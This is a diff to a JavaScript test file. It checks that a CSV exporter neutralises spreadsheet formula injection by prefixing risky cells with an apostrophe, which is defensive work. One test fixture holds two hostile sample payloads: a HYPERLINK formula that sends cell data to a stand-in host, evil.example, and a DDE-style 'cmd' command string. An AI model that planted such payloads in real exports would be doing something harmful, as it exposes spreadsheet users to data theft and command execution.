@@ -26,11 +26,29 @@ test('a table has a heading line, and an unknown value is an empty field', () =>
   assert.equal(csvText([]), '');
 });
 
-test('whatever stands in a field comes back', () => {
-  const rows = fc.array(fc.record({ a: fc.string({ unit: 'binary' }), b: fc.string() }), { minLength: 1 });
+test('whatever stands in a field comes back; what a spreadsheet would compute is marked as text', () => {
+  const beginning = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\n=');
+  const text = fc.tuple(beginning, fc.string({ unit: 'binary' })).map((parts) => parts.join(''));
   fc.assert(
-    fc.property(rows, (table) => {
-      assert.deepEqual(readCsv(csvText(table)), [['a', 'b'], ...table.map(({ a, b }) => [a, b])]);
+    fc.property(fc.array(fc.record({ a: text, b: fc.string() }), { minLength: 1 }), (table) => {
+      const [head, ...lines] = readCsv(csvText(table));
+      assert.deepEqual(head, ['a', 'b']);
+      assert.deepEqual(
+        lines.map((line) => line.map((cell) => cell.replace(/^'(?=[=+\-@\t\r])/, ''))),
+        table.map(({ a, b }) => [a, b].map((cell) => cell.replace(/^'(?=[=+\-@\t\r])/, ''))),
+      );
+      for (const cell of lines.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
     }),
+  );
+});
+
+test('the name of a participant is no formula; a number stays one', () => {
+  const rows = [
+    { name: '=HYPERLINK("http://evil.example/?"&A2)', change: -0.5 },
+    { name: "-2+3+cmd|' /C calc'!A0", change: 1e-7 },
+  ];
+  assert.equal(
+    csvText(rows),
+    'name,change\r\n"\'=HYPERLINK(""http://evil.example/?""&A2)",-0.5\r\n\'-2+3+cmd|\' /C calc\'!A0,1e-7\r\n',
   );
 });
